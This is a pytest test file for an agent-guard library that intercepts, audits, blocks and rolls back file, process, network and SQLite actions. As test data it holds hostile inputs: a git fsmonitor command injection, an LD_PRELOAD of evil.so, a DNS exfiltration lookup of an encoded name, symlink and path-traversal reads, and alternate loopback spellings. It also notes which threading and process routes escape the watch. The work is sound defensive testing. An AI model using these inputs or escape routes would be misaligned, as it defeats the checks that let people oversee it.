"""Zero-code interception: real files, real subprocesses and real sockets inside `guard.watch()`."""

from __future__ import annotations

import asyncio
import contextvars
import multiprocessing
import os
import py_compile
import shutil
import socket
import sqlite3
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from risk import ActionDenied, ActionType, AgentPaused, Guard, GuardDenied, KillSwitchMode
from risk.audit.record import AuditRecord
from risk.audit.store import AuditQuery, verify_store
from risk.rollback import StepStatus

FILES = [ActionType.FILE_READ, ActionType.FILE_WRITE, ActionType.FILE_DELETE]


@pytest.fixture
def make(guards: Callable[..., Guard], tmp_path: Path) -> Callable[..., Guard]:
    """A pure-policy guard with its audit trail and snapshots in tmp_path."""

    def build(**kwargs: Any) -> Guard:
        kwargs.setdefault("audit", f"sqlite:///{tmp_path}/audit.db")
        kwargs.setdefault("home", tmp_path / "home")
        return guards(model=None, online=False, **kwargs)

    return build


@pytest.fixture
def work(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    return folder


def decisions(guard: Guard, **filters: Any) -> list[AuditRecord]:
    return guard.audit.query(AuditQuery(kind="decision", limit=10_000, **filters))


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(5)
    yield server
    server.close()


# ---- files -------------------------------------------------------------------------------------------


def test_blocked_write_leaves_the_file_untouched_and_the_audit_says_why(make: Callable[..., Guard], work: Path) -> None:
    report = work / "report.txt"
    report.write_text("original")
    guard = make(blocked_resources=[f"{work}/report*"])

    with guard.watch(agent_id="writer"), pytest.raises(ActionDenied) as denied:
        report.write_text("overwritten")

    assert report.read_text() == "original"
    assert denied.value.decision.action_type is ActionType.FILE_WRITE
    [record] = decisions(guard, agent_id="writer")
    assert (record.action_type, record.resource, record.outcome) == ("file_write", str(report), "blocked")
    assert record.reasons[0]["code"] == "resource_blocked"
    assert verify_store(guard.audit).ok


def test_reads_and_writes_are_told_apart_by_how_the_file_is_opened(make: Callable[..., Guard], work: Path) -> None:
    data = work / "data.txt"
    data.write_text("x")
    guard = make(allowed_action_types=[ActionType.FILE_READ])

    with guard.watch():
        assert data.read_text() == "x"
        for mode in ("w", "a", "r+", "x"):
            with pytest.raises(ActionDenied), open(work / ("new.txt" if mode == "x" else "data.txt"), mode):
                pass
        with pytest.raises(ActionDenied):
            os.open(data, os.O_RDONLY | os.O_CREAT)

    assert data.read_text() == "x"
    assert not (work / "new.txt").exists()
    kinds = [r.action_type for r in decisions(guard)]
    assert kinds == ["file_read"] + ["file_write"] * 5


def test_removal_rename_and_rmtree_are_checked_before_they_happen(make: Callable[..., Guard], work: Path) -> None:
    keep = work / "keep.txt"
    keep.write_text("k")
    tree = work / "tree"
    (tree / "sub").mkdir(parents=True)
    (tree / "sub" / "leaf.txt").write_text("leaf")
    guard = make(allowed_action_types=[ActionType.FILE_READ, ActionType.FILE_WRITE])

    with guard.watch():
        with pytest.raises(ActionDenied):
            os.remove(keep)
        with pytest.raises(ActionDenied):
            shutil.rmtree(tree)
        with pytest.raises(ActionDenied):
            os.rmdir(tree / "sub")
        os.replace(keep, work / "moved.txt")  # a rename is a write of both names

    assert (tree / "sub" / "leaf.txt").read_text() == "leaf"
    assert (work / "moved.txt").read_text() == "k"
    rename = [r for r in decisions(guard) if r.action_type == "file_write"]
    assert [r.resource for r in rename] == [str(keep), str(work / "moved.txt")]
    # One decision for the whole tree: rmtree's own steps are not checked one by one.
    deletes = [r.resource for r in decisions(guard) if r.action_type == "file_delete"]
    assert deletes == [str(keep), str(tree), str(tree / "sub")]


def test_rollback_undoes_a_write_and_then_a_rename_of_the_file(make: Callable[..., Guard], work: Path) -> None:
    """Renamed back, the file is as the write left it, which the write's undo read as a change someone made after
    the block (the block ended with no file there): it failed with FileChanged and kept the agent's text."""
    (work / "notes.txt").write_text("original")
    guard = make()
    with guard.watch():
        (work / "notes.txt").write_text("the agent's")
        os.rename(work / "notes.txt", work / "moved.txt")
    report = guard.rollback()
    assert report.complete, report.not_undone
    assert (work / "notes.txt").read_text() == "original" and not (work / "moved.txt").exists()
    with guard.watch():  # again, and a person edits the file once the block is over: that edit is kept
        (work / "notes.txt").write_text("the agent's")
        os.rename(work / "notes.txt", work / "moved.txt")
    (work / "moved.txt").write_text("a person's edit, after")
    report = guard.rollback()
    assert [s.status for s in report.steps] == [StepStatus.UNDONE, StepStatus.FAILED]
    assert (work / "notes.txt").read_text() == "a person's edit, after"


def test_a_step_undone_inside_the_block_leaves_no_record_when_the_block_ends(
    make: Callable[..., Guard], work: Path
) -> None:
    """The block's end settles its files, and wrote the record of a step undone inside it again: once the process
    ended, a rollback would take it over and remove the file the agent made, made again since by someone else."""
    guard = make()
    with guard.watch():
        (work / "made.txt").write_text("the agent's")
        assert guard.rollback().complete
    (work / "made.txt").write_text("a person's, after")
    assert [p.name for p in (guard.home / "snapshots").iterdir()] == []


def test_rollback_of_a_rename_over_a_symbolic_link_puts_the_link_back(make: Callable[..., Guard], work: Path) -> None:
    """The rename replaces the link itself; its undo renamed the file back and left no link where one was, and
    the rollback still said it was complete."""
    (work / "real.txt").write_text("what the link reaches")
    (work / "link.txt").symlink_to("real.txt")
    (work / "draft.txt").write_text("draft")
    guard = make()
    with guard.watch():
        os.replace(work / "draft.txt", work / "link.txt")
    assert not (work / "link.txt").is_symlink()
    report = guard.rollback()
    assert report.complete, report.not_undone
    assert (work / "draft.txt").read_text() == "draft"
    assert os.readlink(work / "link.txt") == "real.txt"
    assert (work / "real.txt").read_text() == "what the link reaches"


def test_rollback_restores_what_was_written_removed_and_renamed_under_watch(
    make: Callable[..., Guard], work: Path
) -> None:
    edited, removed, renamed = work / "edited.txt", work / "removed.txt", work / "renamed.txt"
    for path in (edited, removed, renamed):
        path.write_text(f"original {path.name}")
    tree = work / "tree"
    (tree / "sub").mkdir(parents=True)
    (tree / "sub" / "leaf.txt").write_text("leaf")
    guard = make()

    with guard.watch():
        edited.write_text("changed")
        (work / "created.txt").write_text("new")
        os.remove(removed)
        os.rename(renamed, work / "elsewhere.txt")
        shutil.rmtree(tree)

    report = guard.rollback()

    assert report.complete, report.not_undone
    assert edited.read_text() == "original edited.txt"
    assert removed.read_text() == "original removed.txt"
    assert renamed.read_text() == "original renamed.txt"
    assert not (work / "created.txt").exists()
    assert not (work / "elsewhere.txt").exists()
    assert (tree / "sub" / "leaf.txt").read_text() == "leaf"
    assert all(step.status is StepStatus.UNDONE for step in report.steps)
    deletes = [r.resource for r in decisions(guard) if r.action_type == "file_delete"]
    assert deletes == [str(removed), str(tree)]  # the tree once, not each of its files
    assert verify_store(guard.audit).ok


def test_a_path_through_a_link_and_up_is_judged_and_snapshotted_where_the_os_goes(
    make: Callable[..., Guard], work: Path, tmp_path: Path
) -> None:
    """`link/../victim.txt` opens the victim beside the link's target: the OS follows the link before `..`.
    Made absolute by collapsing `..` first, the watch judged (and snapshotted) work/victim.txt instead."""
    outside = tmp_path / "outside"
    (outside / "a").mkdir(parents=True)
    (outside / "victim.txt").write_text("outside before")
    (work / "link").symlink_to(outside / "a")
    (work / "x.txt").write_text("bystander")
    (work / "sub" / "inner").mkdir(parents=True)
    (work / "sub" / "x.txt").write_text("sub before")
    (work / "deep").symlink_to(work / "sub" / "inner")
    guard = make(allowed_resources=[f"{work}/*"])
    with guard.watch():
        with pytest.raises(ActionDenied):
            open(f"{work}/link/../victim.txt", "w").close()
        with open(f"{work}/deep/../x.txt", "w") as out:  # work/sub/x.txt, not work/x.txt
            out.write("agent")
    assert (outside / "victim.txt").read_text() == "outside before"
    report = guard.rollback()
    assert report.complete, report.not_undone
    assert (work / "sub" / "x.txt").read_text() == "sub before" and (work / "x.txt").read_text() == "bystander"


def test_one_agents_rollback_never_throws_away_what_another_wrote_after_it(
    make: Callable[..., Guard], work: Path
) -> None:
    shared = work / "shared.txt"
    shared.write_text("v0 original")
    guard = make()
    with guard.watch(agent_id="a"):
        shared.write_text("v1 by a (bad)")
    with guard.watch(agent_id="b"):
        shared.write_text("v2 by b (good)")
    first = guard.rollback("a")
    assert not first.complete and "changed after the action" in first.not_undone[0].error
    assert shared.read_text() == "v2 by b (good)"
    assert guard.rollback("b").complete and shared.read_text() == "v1 by a (bad)"
    assert guard.rollback("a").complete and shared.read_text() == "v0 original"  # the failed step, tried again


def test_a_removed_symlink_is_put_back_as_a_link(make: Callable[..., Guard], work: Path) -> None:
    """Removing a link removes the link, not its target: restoring the target left the link gone for good."""
    (work / "real_cfg").write_text("cfg")
    link = work / "cfg"
    link.symlink_to("real_cfg")
    guard = make()
    with guard.watch():
        os.remove(link)
        link.write_text("a file where the link was")
    report = guard.rollback()
    assert report.complete, report.not_undone
    assert link.is_symlink() and os.readlink(link) == "real_cfg" and link.read_text() == "cfg"


def test_reads_leave_no_undo_step_and_devices_are_never_snapshotted(make: Callable[..., Guard], work: Path) -> None:
    (work / "a.txt").write_text("a")
    guard = make()

    with guard.watch():
        (work / "a.txt").read_text()
        with open(os.devnull, "w") as sink:
            sink.write("discarded")

    assert guard.rollback().steps == ()
    assert [r.resource for r in decisions(guard)] == [str(work / "a.txt")]


# ---- processes ---------------------------------------------------------------------------------------


def test_blocked_subprocess_never_starts_and_an_allowed_one_runs(make: Callable[..., Guard], work: Path) -> None:
    blocked_marker, allowed_marker = work / "blocked", work / "allowed"
    guard = make(blocked_resources=["touch *", "/bin/sh -c *"])

    with guard.watch():
        with pytest.raises(ActionDenied):
            subprocess.run(["touch", str(blocked_marker)], check=True)
        with pytest.raises(ActionDenied):
            os.system(f"touch {blocked_marker}")
        with pytest.raises(ActionDenied):
            subprocess.run(f"touch {blocked_marker}", shell=True, check=True)
        done = subprocess.run(
            [sys.executable, "-c", f"open({str(allowed_marker)!r}, 'w').write('ran')"],
            stdout=subprocess.DEVNULL,
            check=True,
        )

    assert not blocked_marker.exists()
    assert done.returncode == 0 and allowed_marker.read_text() == "ran"
    spawns = [r for r in decisions(guard) if r.action_type == "process_spawn"]
    assert [r.outcome for r in spawns] == ["blocked", "blocked", "blocked", "allowed"]
    assert spawns[0].resource == f"touch {blocked_marker}"
    # os.system and shell=True run the same thing, so the same command line is checked.
    assert spawns[1].resource == spawns[2].resource == f"/bin/sh -c 'touch {blocked_marker}'"


def test_the_environment_a_program_is_given_is_in_its_record(make: Callable[..., Guard], work: Path) -> None:
    """`git status` with GIT_CONFIG_* runs any command (core.fsmonitor), as LD_PRELOAD or PATH run other code: the
    variables that differ from this process's were dropped, and the trail said only `git status`."""
    guard = make(keep_payloads=True)
    added = {**os.environ, "GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": "touch pwned"}

    with guard.watch():
        subprocess.run(["true"], env=added, check=True)
        os.waitpid(os.posix_spawnp("true", ["true"], {"LD_PRELOAD": "/tmp/evil.so"}), 0)
        subprocess.run(["true"], check=True)

    spawns = [r for r in decisions(guard) if r.action_type == "process_spawn"]
    assert [r.payload.get("env") for r in spawns] == [
        {"GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": "touch pwned"},
        {"LD_PRELOAD": "/tmp/evil.so"},
        None,
    ]


def test_a_command_line_too_long_to_check_is_denied(make: Callable[..., Guard], work: Path) -> None:
    guard = make()
    with guard.watch(), pytest.raises(ActionDenied) as denied:
        subprocess.run(["echo", "x" * 5000], check=True)
    assert denied.value.decision.reason_codes == ("resource_too_long",)


# ---- network -----------------------------------------------------------------------------------------


def assert_never_reached(listener: socket.socket) -> None:
    """Connect once, unwatched: the first connection the server accepts is this one, so no earlier one reached it."""
    with socket.create_connection(listener.getsockname(), timeout=5) as probe:
        accepted, peer = listener.accept()
        accepted.close()
        assert peer == probe.getsockname()


def test_blocked_connect_to_a_real_server_never_connects(make: Callable[..., Guard], listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    guard = make(allowed_action_types=[ActionType.NETWORK_REQUEST], blocked_resources=[f"127.0.0.1:{port}"])

    with guard.watch(), socket.socket() as client, pytest.raises(ActionDenied):
        client.connect(("127.0.0.1", port))

    assert_never_reached(listener)
    [record] = decisions(guard)
    assert (record.resource, record.outcome) == (f"127.0.0.1:{port}", "blocked")


def test_allowed_connect_reaches_the_server_and_names_resolved_in_the_watch_are_checked_by_name(
    make: Callable[..., Guard], listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    guard = make(allowed_resources=[f"localhost:{port}"])

    with guard.watch(), socket.create_connection(("localhost", port), timeout=5) as client:
        accepted, peer = listener.accept()
        accepted.close()
        assert peer == client.getsockname()

    # The lookup, then each address tried (::1 may come first), all checked under the name.
    records = decisions(guard)
    assert len(records) >= 2
    assert {(r.action_type, r.resource, r.outcome) for r in records} == {
        ("network_request", f"localhost:{port}", "allowed")
    }


@pytest.mark.parametrize(
    ("family", "host"),
    [
        (socket.AF_INET, "127.1"),
        (socket.AF_INET, "2130706433"),
        (socket.AF_INET, "0x7f.1"),
        (socket.AF_INET, "0177.0.0.1"),
        (socket.AF_INET6, "::ffff:127.0.0.1"),
        (socket.AF_INET, "0.0.0.0"),  # the unspecified address reaches the loopback address
        (socket.AF_INET, "0"),
        (socket.AF_INET, ""),  # the socket module's name for it
        (socket.AF_INET6, "::ffff:0.0.0.0"),
    ],
)
def test_another_spelling_of_a_blocked_address_is_the_blocked_address(
    make: Callable[..., Guard], listener: socket.socket, family: socket.AddressFamily, host: str
) -> None:
    """A connection to each of these reaches 127.0.0.1: checked as written, each reached a blocked 127.0.0.1."""
    port = listener.getsockname()[1]
    guard = make(blocked_resources=[f"127.0.0.1:{port}"], keep_payloads=True)

    with guard.watch(), socket.socket(family) as client, pytest.raises(ActionDenied):
        client.connect((host, port))

    assert_never_reached(listener)
    [record] = decisions(guard)
    assert (record.resource, record.outcome) == (f"127.0.0.1:{port}", "blocked")
    assert record.payload["address"] == f"127.0.0.1:{port}"
    if not host.isdigit():  # a long number is masked in the kept payload, as a phone number would be
        assert record.payload["written"] == (f"[{host}]:{port}" if ":" in host else f"{host}:{port}")


@pytest.mark.parametrize("how", ["create_connection", "connect"])
def test_a_blocked_address_is_not_reached_through_a_name_that_resolves_to_it(
    make: Callable[..., Guard], listener: socket.socket, how: str
) -> None:
    """Checked under the name alone, a connection to `localhost` reached a blocked 127.0.0.1: through the lookup
    the watch saw (create_connection), or through the name given to the socket, which resolves it unseen."""
    port = listener.getsockname()[1]
    guard = make(allowed_resources=[f"localhost:{port}"], blocked_resources=[f"127.0.0.1:{port}"], keep_payloads=True)

    with guard.watch(), pytest.raises(ActionDenied) as denied:
        if how == "create_connection":
            socket.create_connection(("localhost", port), timeout=5)
        else:
            with socket.socket(socket.AF_INET) as client:
                client.connect(("localhost", port))

    assert_never_reached(listener)
    assert denied.value.decision.resource == f"127.0.0.1:{port}"
    blocked = [r for r in decisions(guard) if r.outcome == "blocked"]
    assert [(r.resource, r.payload["name"]) for r in blocked] == [(f"127.0.0.1:{port}", f"localhost:{port}")]


def test_a_blocked_name_is_not_even_looked_up(make: Callable[..., Guard]) -> None:
    guard = make(blocked_resources=["*.exfil.invalid:*"])
    with guard.watch(), pytest.raises(ActionDenied):
        socket.getaddrinfo("c2VjcmV0.exfil.invalid", 443)
    assert decisions(guard)[0].resource == "c2VjcmV0.exfil.invalid:443"


@pytest.mark.parametrize(
    ("lookup", "resource"),
    [
        (lambda: socket.gethostbyname("c2VjcmV0.exfil.invalid"), "c2VjcmV0.exfil.invalid"),
        (lambda: socket.gethostbyname_ex("c2VjcmV0.exfil.invalid"), "c2VjcmV0.exfil.invalid"),
        (lambda: socket.gethostbyaddr("c2VjcmV0.exfil.invalid"), "c2VjcmV0.exfil.invalid"),
        (lambda: socket.getnameinfo(("127.0.0.1", 53), 0), "127.0.0.1:53"),
    ],
    ids=["gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getnameinfo"],
)
def test_every_lookup_is_checked_before_it_leaves(
    make: Callable[..., Guard], lookup: Callable[[], Any], resource: str
) -> None:
    # A name looked up carries data out through DNS even when nothing connects to it.
    guard = make(blocked_resources=["*.exfil.invalid", "127.0.0.1:53"])
    with guard.watch(), pytest.raises(ActionDenied):
        lookup()
    [record] = decisions(guard)
    assert (record.action_type, record.resource, record.outcome) == ("network_request", resource, "blocked")


def test_sendmsg_to_a_blocked_address_never_sends(make: Callable[..., Guard]) -> None:
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender,
    ):
        receiver.bind(("127.0.0.1", 0))
        receiver.settimeout(1)
        port = receiver.getsockname()[1]
        guard = make(blocked_resources=[f"127.0.0.1:{port}"])
        with guard.watch(), pytest.raises(ActionDenied):
            sender.sendmsg([b"via sendmsg"], [], 0, ("127.0.0.1", port))
        sender.sendto(b"unwatched", ("127.0.0.1", port))
        assert receiver.recv(100) == b"unwatched"  # the first datagram to arrive: the watched one never left
    [record] = decisions(guard)
    assert (record.resource, record.outcome) == (f"127.0.0.1:{port}", "blocked")


# ---- SQLite ------------------------------------------------------------------------------------------


def test_sqlite_connections_are_checked_as_writes_unless_read_only(make: Callable[..., Guard], work: Path) -> None:
    database = work / "app.db"
    with sqlite3.connect(database) as setup:
        setup.execute("CREATE TABLE t (x)")
    setup.close()
    guard = make(allowed_action_types=[ActionType.DATABASE_QUERY])

    with guard.watch():
        with pytest.raises(ActionDenied):
            sqlite3.connect(work / "new.db")
        readonly = sqlite3.connect(f"file:{database}?mode=ro", uri=True)
        assert readonly.execute("SELECT count(*) FROM t").fetchone() == (0,)
        readonly.close()
        sqlite3.connect(":memory:").close()  # nothing outside the process: not an action

    assert not (work / "new.db").exists()
    assert [(r.action_type, r.resource) for r in decisions(guard)] == [
        ("database_write", str(work / "new.db")),
        ("database_query", str(database)),
    ]


@pytest.mark.parametrize("opened", ["memory", "read-only"])
def test_an_attach_or_vacuum_into_a_file_is_checked_as_opening_it(
    make: Callable[..., Guard], work: Path, opened: str
) -> None:
    """An in-memory connection is no action and a `mode=ro` one is checked as a query, yet ATTACH and VACUUM INTO
    wrote any file through them."""
    database = work / "app.db"
    sqlite3.connect(database).close()
    guard = make(allowed_action_types=[ActionType.DATABASE_QUERY])
    attached, vacuumed, named = work / "attached.db", work / "vacuumed.db", work / "named.db"

    with guard.watch():
        connection = sqlite3.connect(":memory:" if opened == "memory" else f"file:{database}?mode=ro", uri=True)
        for statement, parameters in [
            (f"ATTACH '{attached}' AS a", ()),
            (f"VACUUM INTO '{vacuumed}'", ()),
            ("VACUUM INTO ?", (str(vacuumed),)),
            ("ATTACH ? AS n", (str(named),)),  # the authorizer is told no name: denied unseen
        ]:
            with pytest.raises(sqlite3.DatabaseError, match=r"not authorized|authorization denied"):
                connection.execute(statement, parameters)
        connection.execute("ATTACH ':memory:' AS scratch")  # in memory: no action
        connection.execute(f"ATTACH 'file:{database}?mode=ro' AS ro")  # a query, allowed
        with pytest.raises(ActionDenied) as denied:  # made without sqlite3.connect, so without the authorizer
            sqlite3.Connection(":memory:")
    connection.execute(f"ATTACH '{attached}' AS a")  # outside the watch, nothing is intercepted
    connection.close()

    assert denied.value.decision.reason_codes == ("sqlite_unwatched",)
    assert not vacuumed.exists() and not named.exists()
    checked = [(r.action_type, r.resource, r.outcome) for r in decisions(guard)]
    opening = [("database_query", str(database), "allowed")] if opened == "read-only" else []
    assert checked == [
        *opening,
        ("database_write", str(attached), "blocked"),
        ("database_write", str(vacuumed), "blocked"),
        ("database_write", str(vacuumed), "blocked"),
        ("database_query", str(database), "allowed"),
    ]


# ---- scope: what is and is not intercepted -----------------------------------------------------------


def test_nothing_is_intercepted_outside_the_context(make: Callable[..., Guard], work: Path) -> None:
    guard = make(allowed_action_types=[])
    with guard.watch(), pytest.raises(ActionDenied):
        (work / "inside.txt").write_text("x")
    before = guard.audit.head().count

    (work / "outside.txt").write_text("x")
    subprocess.run([sys.executable, "-c", "pass"], check=True)

    assert (work / "outside.txt").read_text() == "x"
    assert guard.audit.head().count == before


def test_imports_inside_a_watch_need_no_policy_entry(make: Callable[..., Guard], work: Path) -> None:
    guard = make(allowed_resources=[f"{work}/*"])
    sys.modules.pop("colorsys", None)
    stdlib_text = Path(os.__file__).parent / "LICENSE.txt"

    with guard.watch():
        import colorsys

        assert colorsys.rgb_to_hsv(1, 0, 0)[0] == 0
        with pytest.raises(ActionDenied):  # a file of the interpreter that is not a module: an ordinary read
            stdlib_text.read_text()

    assert all(not r.resource.endswith((".py", ".pyc")) for r in decisions(guard))


def test_the_interpreters_folders_are_judged_by_where_a_path_really_leads(
    make: Callable[..., Guard], work: Path, tmp_path: Path
) -> None:
    """Reads of modules and the import system's bytecode writes under sys.prefix are not checked: judged by the
    path as written, `sys.prefix/../../secret/settings.py` read any .py file unchecked (and through a link a .py
    name there, any file), and py_compile, whose write goes through the same function, wrote a bytecode cache
    into a blocked folder, which its next import ran."""
    secret = tmp_path / "secret"
    (secret / "__pycache__").mkdir(parents=True)
    (secret / "settings.py").write_text("PASSWORD = 'hunter2'\n")
    (work / "leak.py").symlink_to(secret / "settings.py")
    (work / "evil.py").write_text("print('hijacked')\n")
    around = os.path.join(sys.prefix, *[".."] * len(Path(sys.prefix).parts))  # the root, from sys.prefix
    guard = make(allowed_resources=[f"{work}/*"])

    with guard.watch():
        for path in (f"{around}{secret}/settings.py", f"{around}{work}/leak.py"):
            with pytest.raises(ActionDenied):
                Path(path).read_text()
        cache = f"{around}{secret}/__pycache__/settings.cpython-311.pyc"
        with pytest.raises(ActionDenied):
            py_compile.compile(str(work / "evil.py"), cfile=cache)

    assert list((secret / "__pycache__").iterdir()) == []


def test_a_permission_change_or_database_through_a_link_is_judged_by_the_file_too(
    make: Callable[..., Guard], work: Path, tmp_path: Path
) -> None:
    """Permission changes and databases are not file action types, so the guard does not resolve their links:
    chmod and sqlite3.connect through a link the agent made were judged by the link's name alone."""
    secret = tmp_path / "secret"
    secret.mkdir()
    key, db = secret / "key", secret / "app.db"
    key.write_text("k")
    key.chmod(0o600)
    sqlite3.connect(db).close()
    (work / "key").symlink_to(key)
    (work / "db").symlink_to(db)
    (work / "folder").symlink_to(secret)
    guard = make(allowed_resources=[f"{work}/*"])

    with guard.watch():
        with pytest.raises(ActionDenied):
            os.chmod(work / "key", 0o666)
        for database in (work / "db", work / "folder" / "new.db"):
            with pytest.raises(ActionDenied):
                sqlite3.connect(database)

    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and not (secret / "new.db").exists()


def test_the_guards_own_work_is_not_intercepted(make: Callable[..., Guard], work: Path) -> None:
    target = work / "out.txt"
    target.write_text("before")
    # Only the target may be touched: the tool's snapshot (reading the target, writing under home) and the
    # audit writes would be denied if the watch saw them.
    guard = make(allowed_resources=[str(target)], blocked_resources=[f"{work.parent}/home/*"])

    @guard.tool(ActionType.FILE_WRITE, resource="path")
    def save(path: Path, text: str) -> None:
        path.write_text(text)

    with guard.watch():
        save(target, "after")

    assert target.read_text() == "after"
    assert [(r.action_type, r.resource) for r in decisions(guard)] == [("file_write", str(target))] * 2
    assert guard.rollback().complete
    assert target.read_text() == "before"


def test_nested_watches_speak_for_the_innermost_agent(make: Callable[..., Guard], work: Path) -> None:
    guard = make()
    with guard.watch(agent_id="outer"):
        (work / "a").write_text("1")
        with guard.watch(agent_id="inner"):
            (work / "b").write_text("2")
        (work / "c").write_text("3")
    assert [(r.agent_id, Path(r.resource or "").name) for r in decisions(guard)] == [
        ("outer", "a"),
        ("inner", "b"),
        ("outer", "c"),
    ]


def test_tasks_inherit_the_watch_and_plain_threads_do_not(make: Callable[..., Guard], work: Path) -> None:
    guard = make(blocked_resources=[f"{work}/*"])
    outcomes: dict[str, str] = {}

    def write(name: str) -> None:
        try:
            (work / name).write_text("x")
            outcomes[name] = "written"
        except GuardDenied:
            outcomes[name] = "denied"

    async def write_soon(name: str) -> None:
        write(name)

    async def main() -> None:
        with guard.watch():
            await asyncio.get_running_loop().run_in_executor(None, write, "executor")
            await asyncio.to_thread(write, "to_thread")
            task = asyncio.create_task(write_soon("task"))
        await task  # runs after the block has closed, in the copy of the context it was created in
        await asyncio.create_task(write_soon("after"))

    asyncio.run(main())
    with guard.watch():
        plain = threading.Thread(target=write, args=("thread",))
        copied = threading.Thread(target=contextvars.copy_context().run, args=(write, "copied"))
        for thread in (plain, copied):
            thread.start()
            thread.join()

    assert outcomes == {
        "executor": "written",  # run_in_executor does not carry the context over
        "to_thread": "denied",  # asyncio.to_thread does
        "task": "denied",
        "after": "written",
        "thread": "written",  # a new thread starts with an empty context
        "copied": "denied",
    }


def test_pause_mode_stops_every_later_action_of_the_agent(make: Callable[..., Guard], work: Path) -> None:
    (work / "readme.txt").write_text("r")
    guard = make(allowed_action_types=[ActionType.FILE_READ], mode=KillSwitchMode.PAUSE)
    with guard.watch(agent_id="agent-7"):
        with pytest.raises(AgentPaused):
            (work / "x.txt").write_text("x")
        with pytest.raises(AgentPaused):
            (work / "readme.txt").read_text()
    assert guard.status("agent-7").status.value == "paused"
    assert (work / "readme.txt").read_text() == "r"


def test_a_forked_child_is_denied_instead_of_sharing_the_guard(make: Callable[..., Guard], work: Path) -> None:
    guard = make()
    read_end, write_end = os.pipe()
    with guard.watch():
        pid = os.fork()
        if pid == 0:  # the child: report what happened through the pipe and leave at once
            try:
                (work / "child.txt").write_text("x")
                verdict = b"written"
            except ActionDenied as exc:
                verdict = exc.decision.reason_codes[0].encode()
            os.write(write_end, verdict)
            os._exit(0)
    os.close(write_end)
    _, status = os.waitpid(pid, 0)
    verdict = os.read(read_end, 100)
    os.close(read_end)
    assert (status, verdict) == (0, b"forked_process")
    assert not (work / "child.txt").exists()


def write_in_worker(path: str) -> tuple[int, str]:
    """A pool task: which worker ran it, and what became of its write."""
    try:
        Path(path).write_text("x")
        return os.getpid(), "written"
    except ActionDenied as exc:
        return os.getpid(), exc.decision.reason_codes[0]


def test_a_fork_pools_replacement_workers_are_denied_like_any_forked_child(
    make: Callable[..., Guard], work: Path
) -> None:
    """The pool replaces a worker that exited (here after each task) from a thread of its own, which carries no
    watch: the replacement ran every task after the first unwatched."""
    guard = make()
    paths = [str(work / f"task-{i}.txt") for i in range(3)]
    with guard.watch(), multiprocessing.get_context("fork").Pool(1, maxtasksperchild=1) as pool:
        results = [pool.apply(write_in_worker, (path,)) for path in paths]
    assert len({pid for pid, _ in results}) == 3  # each task in a new worker: two of them replacements
    assert [verdict for _, verdict in results] == ["forked_process"] * 3
    assert not any(os.path.exists(path) for path in paths)


@pytest.mark.parametrize("method", ["spawn", "forkserver"])
def test_multiprocessing_starting_a_new_interpreter_is_a_checked_process_spawn(
    make: Callable[..., Guard], work: Path, method: str
) -> None:
    # These start methods run a fresh, unwatched Python without raising an audit event of their own.
    marker = work / "made-by-child"
    guard = make(allowed_action_types=FILES)
    child = multiprocessing.get_context(method).Process(target=os.mkdir, args=(str(marker),))
    with guard.watch(agent_id="a"), pytest.raises(ActionDenied) as denied:
        child.start()
    assert not marker.exists()
    decision = denied.value.decision
    if method == "forkserver" and decision.action_type is ActionType.PERMISSION_CHANGE:
        return  # a forkserver not yet running is stopped earlier, at the chmod of its listening socket
    assert decision.action_type is ActionType.PROCESS_SPAWN
    assert decision.resource.startswith(sys.executable)
